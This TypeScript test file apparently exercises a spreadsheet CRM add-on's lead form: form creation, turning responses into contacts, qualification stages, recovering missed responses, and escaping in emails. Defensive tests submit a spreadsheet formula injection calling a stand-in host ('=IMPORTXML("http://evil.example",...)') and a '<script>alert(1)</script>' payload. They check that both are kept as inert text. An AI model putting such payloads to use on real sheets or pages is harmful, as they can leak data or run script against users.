// The lead form on the built add-on: made from the menu in the sheet language, each response
// turned into a contact exactly once (new lead, existing contact by email or phone), the
// sidebar's qualification rules, hostile answers kept as text, and responses the trigger missed
// picked up once by "Process form responses" and by the daily run.
import type { Runtime } from '../../../local/runtime/index';
import { lastAlert, menu } from '../../support/menu';
import { setUpSheet, tabRows, typeContacts } from '../../support/workbook';

const ALL_YES = {
  'Your name': 'Ani Wijaya',
  'Business name': 'Warung Ani',
  'Phone / WhatsApp': '0812 1111 2222',
  Email: 'ani@example.com',
  'Is your business the kind we serve?': 'Yes',
  'Do you have a budget for this now?': 'Yes',
  'Do you decide on this purchase?': 'Yes',
  'May we contact you?': 'Yes',
};

function withForm(): { rt: Runtime; formId: string } {
  const rt = setUpSheet();
  const dialogs = menu(rt, 'menuCreateLeadForm', ['OK']);
  expect(lastAlert(dialogs)).toMatch(/^Your lead form is ready\./);
  return { rt, formId: rt.state.forms[0].id };
}

const contacts = (rt: Runtime) => tabRows(rt, 'Contacts');
const activities = (rt: Runtime) => tabRows(rt, 'Activities');

describe('Create lead form', () => {
  it('makes the form with the links, linked to the sheet, and offers it again next time', () => {
    const { rt } = withForm();
    const form = rt.state.forms[0];
    expect(form.items.map((i) => [i.title, i.type, i.choices])).toEqual([
      ['Your name', 'TEXT', []],
      ['Business name', 'TEXT', []],
      ['Phone / WhatsApp', 'TEXT', []],
      ['Email', 'TEXT', []],
      ['Birthday (optional)', 'DATE', []],
      ['Is your business the kind we serve?', 'MULTIPLE_CHOICE', ['Yes', 'No']],
      ['Do you have a budget for this now?', 'MULTIPLE_CHOICE', ['Yes', 'Not yet', 'No']],
      ['Do you decide on this purchase?', 'MULTIPLE_CHOICE', ['Yes', 'No']],
      ['May we contact you?', 'MULTIPLE_CHOICE', ['Yes', 'No']],
    ]);
    expect(form.destinationId).toBe(rt.workbook().id);
    expect(rt.state.triggers.map((t) => [t.handler, t.eventType])).toEqual([
      ['prospekFormSubmit', 'ON_FORM_SUBMIT'],
    ]);
    // Again: the existing form is offered; Yes keeps it, nothing new is made.
    const again = menu(rt, 'menuCreateLeadForm', ['YES', 'OK']);
    expect(again[0].message).toContain(
      `https://docs.google.com/forms/d/e/${form.publishedId}/viewform`,
    );
    expect(rt.state.forms).toHaveLength(1);
    // No: a second form, and still one trigger.
    menu(rt, 'menuCreateLeadForm', ['NO', 'OK']);
    expect(rt.state.forms).toHaveLength(2);
    expect(rt.state.triggers).toHaveLength(1);
  });

  it('asks in Indonesian in an Indonesian sheet, with the seller wording the market question', () => {
    const rt = setUpSheet();
    rt.run('setSheetLanguage', ['id']);
    rt.run('saveLeadFormSettings', [
      { business: 'Kopi Budi', questions: { fitsMarket: 'Apakah Anda punya kedai kopi?' } },
    ]);
    menu(rt, 'menuCreateLeadForm', ['OK']);
    const form = rt.state.forms[0];
    expect(form.title).toBe('Kopi Budi: ceritakan tentang Anda');
    expect(form.items.map((i) => i.title)).toContain('Apakah Anda punya kedai kopi?');
    expect(form.items[6]).toMatchObject({
      title: 'Apakah Anda punya anggaran untuk ini sekarang?',
      choices: ['Ya', 'Belum', 'Tidak'],
    });
  });
});

describe('answers become leads', () => {
  it('all yes → Prospect; not yet → Not ready with a follow-up; an existing email → that contact', () => {
    const { rt, formId } = withForm();
    typeContacts(rt, [{ name: 'Citra', email: 'citra@example.com', phone: '0813 5555 6666' }]);
    const runs = [
      rt.user.submitForm(formId, ALL_YES),
      rt.user.submitForm(formId, {
        ...ALL_YES,
        'Your name': 'Budi',
        Email: 'budi@example.com',
        'Phone / WhatsApp': '0812 3333 4444',
        'Do you have a budget for this now?': 'Not yet',
      }),
      rt.user.submitForm(formId, {
        'Your name': 'Citra S.',
        Email: 'CITRA@example.com',
        'Do you decide on this purchase?': 'No',
        'May we contact you?': 'No',
      }),
    ];
    expect(runs.flatMap((r) => r.triggers.map((t) => t.error))).toEqual([
      undefined,
      undefined,
      undefined,
    ]);
    const rows = contacts(rt);
    expect(rows.map((r) => [r.Name, r.Stage, r['Lead source'], r['Keep in touch']])).toEqual([
      ['Citra', 'Not a fit', '', 'No'],
      ['Ani Wijaya', 'Prospect', 'Online form', 'Yes'],
      ['Budi', 'Not ready', 'Online form', 'Yes'],
    ]);
    // Not ready: followed up after the settings' notReadyDays (default 30).
    expect(rows[2]['Next follow-up']).toEqual(new Date('2026-12-27T00:00:00+07:00'));
    expect(rows[1]['Target market evidence']).toBe(
      'Answered the online form on 27 November 2026: Yes',
    );
    const ani = activities(rt).filter((a) => a['Contact name'] === 'Ani Wijaya');
    expect(ani.map((a) => a.Type)).toEqual(['Online form', 'Stage change', 'Qualification']);
    expect(String(ani[0].Summary)).toMatch(
      /^Form answer\. Your name: Ani Wijaya; Business name: Warung Ani;/,
    );
    // The pipeline counts what the form brought: two leads, both prospects or further.
    const pipeline = rt.run<{ value: { sources: unknown[] } }>('getPipeline', [], {
      kind: 'sidebar',
    });
    expect(pipeline.value.sources).toEqual([
      { source: 'Online form', contacts: 2, prospects: 2 },
      { source: '', contacts: 1, prospects: 0 },
    ]);
    // Processing again finds nothing new.
    expect(lastAlert(menu(rt, 'menuProcessFormResponses', ['OK']))).toBe(
      'Every form response is already in Contacts; nothing to do.',
    );
    expect(contacts(rt)).toHaveLength(3);
  });

  it('matches an existing contact by phone, written the way the import reads it', () => {
    const { rt, formId } = withForm();
    typeContacts(rt, [{ name: 'Dewi', phone: '+62 812-7777-8888' }]);
    rt.user.submitForm(formId, { 'Your name': 'Dewi', 'Phone / WhatsApp': '081277778888' });
    expect(contacts(rt).map((r) => r.Name)).toEqual(['Dewi']);
  });

  it('keeps hostile answers as text in every cell it writes', () => {
    const { rt, formId } = withForm();
    rt.user.submitForm(formId, {
      'Your name': '=IMPORTXML("http://evil.example","//a")',
      'Business name': '<script>alert(1)</script>',
      Email: 'x@example.com',
    });
    const sheet = rt.workbook().sheet('Contacts')!;
    expect(sheet.formulas.size).toBe(0);
    expect(rt.workbook().sheet('Activities')!.formulas.size).toBe(0);
    const [row] = contacts(rt);
    expect(row.Name).toBe('=IMPORTXML("http://evil.example","//a")');
    expect(row.Company).toBe('<script>alert(1)</script>');
  });
});

describe('responses the trigger missed', () => {
  function twoMissed(): { rt: Runtime; formId: string } {
    const { rt, formId } = withForm();
    rt.user.submitForm(formId, ALL_YES);
    // The trigger fails twice (the sheet was busy): those two responses are in the tab only.
    rt.holdLockElsewhere(`document:${rt.workbook().id}`, 60_000);
    const failed = [
      rt.user.submitForm(formId, { 'Your name': 'Eko', Email: 'eko@example.com' }),
      rt.user.submitForm(formId, { 'Your name': 'Fitri', Email: 'fitri@example.com' }),
    ];
    expect(failed.map((f) => f.triggers[0].error)).toEqual([
      expect.stringMatching(/busy/),
      expect.stringMatching(/busy/),
    ]);
    rt.advanceBy(120_000);
    expect(contacts(rt).map((r) => r.Name)).toEqual(['Ani Wijaya']);
    return { rt, formId };
  }

  it('"Process form responses" adds them once', () => {
    const { rt } = twoMissed();
    expect(lastAlert(menu(rt, 'menuProcessFormResponses', ['OK']))).toBe(
      'Added 2 form responses to Contacts.',
    );
    menu(rt, 'menuProcessFormResponses', ['OK']);
    expect(contacts(rt).map((r) => r.Name)).toEqual(['Ani Wijaya', 'Eko', 'Fitri']);
    expect(activities(rt).filter((a) => a.Type === 'Online form')).toHaveLength(3);
  });

  it('the daily run adds them once too, and a later menu run finds nothing', () => {
    const { rt } = twoMissed();
    rt.run('prospekDailyDigest', [{}], { kind: 'timeTrigger' });
    rt.run('prospekDailyDigest', [{}], { kind: 'timeTrigger' });
    expect(contacts(rt).map((r) => r.Name)).toEqual(['Ani Wijaya', 'Eko', 'Fitri']);
    expect(lastAlert(menu(rt, 'menuProcessFormResponses', ['OK']))).toMatch(/nothing to do/);
  });
});

describe('sending the form to a contact', () => {
  it('emails a pre-filled link once per click, escaped, logged, counted against the quota', () => {
    const { rt } = withForm();
    rt.run('saveLeadFormSettings', [{ business: 'Toko <b>Ani</b>', questions: {} }]);
    typeContacts(rt, [{ name: 'Gita <script>', email: 'gita@example.com', company: 'Gita & Co' }]);
    const id = contacts(rt)[0].ID as string;
    const request = { contactId: id, requestKey: 'K-0123456789AB' };
    const first = rt.run<{ ok: boolean }>('sendLeadForm', [request], { kind: 'sidebar' });
    const again = rt.run<{ ok: boolean }>('sendLeadForm', [request], { kind: 'sidebar' });
    expect([first.ok, again.ok]).toEqual([true, true]);
    expect(rt.state.outbox).toHaveLength(1);
    const [mail] = rt.state.outbox;
    const form = rt.state.forms[0];
    const [nameItem, companyItem, , emailItem] = form.items.map((i) => i.id);
    const url = `https://docs.google.com/forms/d/e/${form.publishedId}/viewform?usp=pp_url&entry.${nameItem}=Gita+%3Cscript%3E&entry.${companyItem}=Gita+%26+Co&entry.${emailItem}=gita%40example.com`;
    expect(mail.to).toBe('gita@example.com');
    expect(mail.body).toContain(url);
    expect(mail.htmlBody).toContain('Hi Gita &lt;script&gt;,');
    expect(mail.htmlBody).toContain('Toko &lt;b&gt;Ani&lt;/b&gt;');
    expect(mail.htmlBody).toContain(`href="${url.replace(/&/g, '&amp;')}"`);
    expect(rt.state.mailUsage['rep@example.com'].recipients).toBe(1);
    expect(
      activities(rt)
        .filter((a) => a.Type === 'Message')
        .map((a) => a.Summary),
    ).toEqual(['Sent the lead form by email to gita@example.com.']);
    // The prospect answers through that link: the answer lands on Gita, no new contact.
    rt.user.submitForm(url, { 'Your name': 'Gita <script>', Email: 'gita@example.com' });
    expect(contacts(rt)).toHaveLength(1);
  });
});

describe('hostile answers in the digest', () => {
  it('shows a name like <script> escaped in the digest email', () => {
    const { rt, formId } = withForm();
    rt.user.submitForm(formId, {
      'Your name': '<script>alert(1)</script>',
      Email: 'evil@example.com',
      'Do you have a budget for this now?': 'Not yet',
    });
    // Not ready: its follow-up falls due after notReadyDays (30); the digest lists it that day.
    rt.setNow('2026-12-27T09:00:00');
    menu(rt, 'menuSendTestDigest', ['OK']);
    const mail = rt.state.outbox[rt.state.outbox.length - 1];
    expect(mail.htmlBody).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(mail.htmlBody).not.toContain('<script>');
  });
});
